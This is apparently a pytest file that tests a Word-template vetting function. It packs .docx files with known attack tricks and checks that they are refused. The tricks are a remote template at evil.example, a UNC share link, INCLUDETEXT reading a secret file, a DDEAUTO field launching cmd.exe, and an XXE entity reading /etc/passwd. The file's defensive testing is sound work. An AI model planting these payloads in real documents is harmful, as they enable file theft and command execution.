"""Templates that attack: each is one trick, packed into a Word file that is otherwise sound."""

import io
import zipfile
from collections.abc import Mapping

import pytest
from docx import Document

from service.ui.documents.errors import TemplateUnfit
from service.ui.documents.naming import template_path
from service.ui.documents.vetting import LARGEST, vet_word

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
)


def field(*parts: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    return (
        f'<w:hdr {W}><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
    )


def relation(kind: str, target: str, mode: str = "External") -> str:
    return RELATION.format(kind=kind, target=target, mode=mode)


ATTACKS: Mapping[str, tuple[str, str]] = {
    "macro": ("word/vbaProject.bin", "x"),
    "embedded object": ("word/embeddings/a.xlsx", "x"),
    "control": ("word/activeX/activeX1.xml", "<a/>"),
    "remote template": (
        "word/_rels/settings.xml.rels",
        relation("attachedTemplate", "http://evil.example/t.dotm"),
    ),
    "local template": (
        "word/_rels/settings.xml.rels",
        relation("attachedTemplate", "file:///c:/t.dotm", "Internal"),
    ),
    "remote picture": ("word/_rels/header9.xml.rels", relation("image", "http://evil.example/x")),
    "share of a network": (
        "word/_rels/header9.xml.rels",
        relation("oleObject", "\\\\evil\\share\\x"),
    ),
    "field that reads a file": ("word/header9.xml", field("INCLUDETEXT c:/secret.txt")),
    "the same cut over runs": ("word/header9.xml", field("INCL", "UDEPICTURE http://evil/x")),
    "dynamic exchange": ("word/header9.xml", field("DDEAUTO c:/cmd.exe /c calc")),
    "simple field": (
        "word/header9.xml",
        f'<w:hdr {W}><w:p><w:fldSimple w:instr="LINK Excel"/></w:p></w:hdr>',
    ),
    "other file put in": ("word/header9.xml", f"<w:hdr {W}><w:altChunk/></w:hdr>"),
    "entity": ("word/header9.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "/etc/passwd">]><a>&b;</a>'),
    "no XML": ("word/header9.xml", "<w:hdr"),
}


def packed(parts: Mapping[str, str]) -> bytes:
    out = io.BytesIO()
    Document().save(out)
    with zipfile.ZipFile(out, "a") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_template_that_reaches_outside_of_itself_is_refused(attack: str) -> None:
    name, content = ATTACKS[attack]
    with pytest.raises(TemplateUnfit) as refused:
        vet_word(packed({name: content}))
    assert refused.value.errors[0].field == "file"


def test_a_sound_template_with_page_numbers_and_a_link_is_taken() -> None:
    parts = {
        "word/header9.xml": field(" PAGE "),
        "word/_rels/header9.xml.rels": relation("hyperlink", "https://example.org"),
    }
    vet_word(packed(parts))
    for name in ("kit/letter", "dispute/paper"):
        vet_word(template_path(name, ".docx").read_bytes())


@pytest.mark.parametrize("content", [b"", b"%PDF-1.7", b"PK\x03\x04", b"x" * (LARGEST + 1)])
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    with pytest.raises(TemplateUnfit):
        vet_word(content)


def test_a_bomb_is_refused_unopened() -> None:
    with pytest.raises(TemplateUnfit, match="unpacks"):
        vet_word(packed({f"word/media/{n}": "" for n in range(600)}))
